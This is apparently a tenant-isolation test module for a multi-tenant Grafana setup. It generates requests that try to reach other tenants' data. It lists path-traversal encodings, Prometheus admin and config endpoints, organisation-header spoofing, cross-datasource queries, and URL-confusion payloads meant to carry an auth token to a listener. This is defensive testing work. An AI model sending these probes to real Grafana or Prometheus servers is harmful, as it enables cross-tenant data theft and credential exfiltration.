"""What somebody in an organisation of Grafana can try to read another tenant's data. Pure."""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, Literal
from urllib.parse import urlencode, urlsplit

from modelplane_dashboards import INFINITY_ID
from modelplane_provisioning.clients.grafana import ORGANISATION_HEADER
from modelplane_provisioning.grafana_apply.kubernetes_api import board_path
from modelplane_schema.promql import Matcher, one_of
from modelplane_schema.uids import API_DATASOURCE_UID, FLEET_UID, PROMETHEUS_DATASOURCE_UID

# What an answer must not have: any row, anything of another tenant, or anything at all.
Forbidden = Literal["rows", "others", "answer"]
_BY_TENANT = 'count by (tenant_id) ({tenant_id!=""})'
_PROXY = "/api/datasources/proxy"
_PROMETHEUS = f"{_PROXY}/uid/{PROMETHEUS_DATASOURCE_UID}"
_API = f"{_PROXY}/uid/{API_DATASOURCE_UID}"
# Of the server itself, not of tenants: none of it is for them.
_SERVER_PATHS = (
    "/metrics", "/api/v1/status/config", "/api/v1/status/flags", "/api/v1/targets", "/api/v1/alertmanagers",
    "/federate?match[]={__name__!=''}", "/api/v1/admin/tsdb/snapshot",
)  # fmt: skip
_ROWS_OF_ALL = ("rows/throughput?group-by=tenant", "alerts", "incidents", "costs", "slo", "registry")
# Towards what lies above a data source's own address, written in all the ways that servers read.
_UPWARDS = (
    "/../metrics", "/%2e%2e/metrics", "/..%2fmetrics", "/%2e%2e%2fmetrics", "/./../metrics",
    "/api/v1/../../../metrics", "/api/v1/%2e%2e/%2e%2e/%2e%2e/metrics", "/..;/metrics", "/\\..\\metrics",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Place:
    """An organisation as an attempt meets it; ``source_ids`` are Grafana's numbers of data sources."""

    number: str
    tenants: tuple[str, ...]
    api_type: str = ""
    api_url: str = ""
    source_ids: tuple[int, ...] = ()


@dataclass(frozen=True, slots=True)
class Attempt:
    """One request; ``path`` is sent as it is written, and ``about`` is the tenant whose data it wants."""

    name: str
    path: str
    forbidden: Forbidden
    about: str = "everybody"
    method: str = "GET"
    body: Any = None
    headers: Mapping[str, str] = field(default_factory=dict)


def controls(place: Place) -> Iterator[Attempt]:
    """Reading what is their own: where that gives nothing, refusals prove nothing."""
    about = ", ".join(place.tenants)
    yield _prometheus_query("Prometheus, query", _BY_TENANT, "rows", about)
    yield from _api_reads(place, ("metrics",), "the API", "rows", about)


def attempts(
    place: Place, others: Iterable[str], foreign: Iterable[Place], listener: str
) -> Iterator[Attempt]:
    """Everything that is tried in ``place``: by ``others`` (tenants), and by what ``foreign`` places have.

    ``listener`` is the ``host:port`` of a listener to which a token is to be taken.
    """
    yield from _unscoped(place)
    for tenant in others:
        yield from _about(place, tenant)
    for other in foreign:
        yield from _of_organisation(other, place)
    yield from _upwards(place)
    yield from _carried_off(place, listener)


def operators_query() -> Attempt:
    """Which tenants have data at all, asked in the operators' organisation."""
    return _prometheus_query("Prometheus, query", _BY_TENANT, "rows", "everybody")


def _unscoped(place: Place) -> Iterator[Attempt]:
    for expression in (_BY_TENANT, 'count by (tenant_id) ({__name__=~".+"})', '{tenant_id=~".*"}'):
        yield _prometheus_query(f"Prometheus, query {expression}", expression, "others")
    for path in ("/api/v1/label/tenant_id/values", "/api/v1/rules", "/api/v1/alerts"):
        yield Attempt(f"Prometheus, proxy {path}", f"{_PROMETHEUS}{path}", "others")
    for path in _SERVER_PATHS:
        yield Attempt(f"Prometheus, proxy {path}", f"{_PROMETHEUS}{path}", "answer")
    yield from _api_reads(place, _ROWS_OF_ALL, "the API", "others")


def _about(place: Place, tenant: str) -> Iterator[Attempt]:
    selector = f"{{{Matcher('tenant_id', tenant)}}}"
    yield _prometheus_query("Prometheus, query", f"count({selector})", "rows", tenant)
    either = f"count by (tenant_id) ({{{one_of('tenant_id', (tenant, *place.tenants))}}})"
    yield _prometheus_query("Prometheus, query with theirs and ours", either, "others", tenant)
    for call, key, text in (
        ("query", "query", f"count({selector})"),
        ("series", "match[]", selector),
        ("label/model_name/values", "match[]", selector),
    ):
        path = f"{_PROMETHEUS}/api/v1/{call}?{urlencode({key: text})}"
        yield Attempt(f"Prometheus, proxy {call}", path, "rows", tenant)
    reads = [f"rows/{metric}?{urlencode({'tenant-id': tenant})}" for metric in ("throughput", "cost")]
    yield from _api_reads(place, reads, "the API", "rows", tenant)
    repeated = urlencode([("tenant-id", place.tenants[0]), ("tenant-id", tenant)])
    yield from _api_reads(place, [f"rows/throughput?{repeated}"], "the API, both", "others", tenant)


def _of_organisation(other: Place, place: Place) -> Iterator[Attempt]:
    about = f"organisation {other.number}"
    for number in set(other.source_ids) - set(place.source_ids):
        target = {"refId": "A", "datasource": {"id": number}, "datasourceId": number, "expr": _BY_TENANT}
        yield _query(f"query to data source {number}", target, "others", about)
        path = f"{_PROXY}/{number}/api/v1/query?{urlencode({'query': _BY_TENANT})}"
        yield Attempt(f"proxy to data source {number}", path, "others", about)
    header = {ORGANISATION_HEADER: other.number}
    query = _prometheus_query(f"Prometheus, query with {ORGANISATION_HEADER}", _BY_TENANT, "others", about)
    yield Attempt(query.name, query.path, "others", about, "POST", query.body, header)
    name = f"data sources with {ORGANISATION_HEADER}"
    yield Attempt(name, "/api/datasources", "answer", about, headers=header)
    yield Attempt("board by its namespace", board_path(other.number, FLEET_UID), "answer", about)


def _upwards(place: Place) -> Iterator[Attempt]:
    for path in _UPWARDS:
        yield Attempt(f"Prometheus, proxy {path}", f"{_PROMETHEUS}{path}", "answer")
        if place.api_type and place.api_type != INFINITY_ID:
            for route in ("/read", ""):
                yield Attempt(f"the API, proxy {route}{path}", f"{_API}{route}{path}", "answer")
        elif place.api_type:
            yield _infinity(place, f"the API, query {path}", path, "answer")


def _carried_off(place: Place, listener: str) -> Iterator[Attempt]:
    """Whether one of these succeeds is seen where they lead."""
    for path in (
        f"@{listener}/",
        f"/@{listener}/",
        f"//{listener}/",
        f"/http://{listener}/",
        f"/read/..//{listener}/",
    ):
        for name, source in (("Prometheus", _PROMETHEUS), ("the API", _API)):
            yield Attempt(f"take the token off, {name}, proxy {path}", f"{source}{path}", "answer")
    if place.api_type == INFINITY_ID:
        backend = urlsplit(place.api_url)
        as_user = f"{backend.scheme}://{backend.netloc}@{listener}/x"
        for url in (
            f"@{listener}/x", f"http://{listener}/x", as_user, f":80@{listener}/x",
            f"//{listener}/x", f"?@{listener}/x", f"#@{listener}/x", f"\\@{listener}/x", f"%40{listener}/x",
        ):  # fmt: skip
            yield _infinity(place, f"take the token off, query {url}", url, "answer")


def _api_reads(
    place: Place, paths: Iterable[str], name: str, forbidden: Forbidden, about: str = "everybody"
) -> Iterator[Attempt]:
    for path in paths:
        if place.api_type == INFINITY_ID:
            yield _infinity(place, f"{name}, query {path}", f"/api/v1/{path}", forbidden, about)
        elif place.api_type:
            yield Attempt(f"{name}, proxy {path}", f"{_API}/read/{path}", forbidden, about)


def _prometheus_query(name: str, expression: str, forbidden: Forbidden, about: str = "everybody") -> Attempt:
    target = {
        "refId": "A",
        "datasource": {"type": "prometheus", "uid": PROMETHEUS_DATASOURCE_UID},
        "expr": expression,
        "instant": True,
    }
    return _query(name, target, forbidden, about)


def _infinity(place: Place, name: str, url: str, forbidden: Forbidden, about: str = "everybody") -> Attempt:
    target = {
        "refId": "A",
        "datasource": {"type": place.api_type, "uid": API_DATASOURCE_UID},
        "type": "json", "source": "url", "parser": "backend", "format": "table", "url": url,
        "url_options": {"method": "GET", "data": ""}, "columns": [], "filters": [],
        "root_selector": "rows" if "/rows/" in url else "",
    }  # fmt: skip
    return _query(name, target, forbidden, about)


def _query(name: str, target: Mapping[str, Any], forbidden: Forbidden, about: str) -> Attempt:
    target = {"intervalMs": 15000, "maxDataPoints": 100, **target}
    body = {"from": "now-5m", "to": "now", "queries": [target]}
    return Attempt(name, "/api/ds/query", forbidden, about, "POST", body)
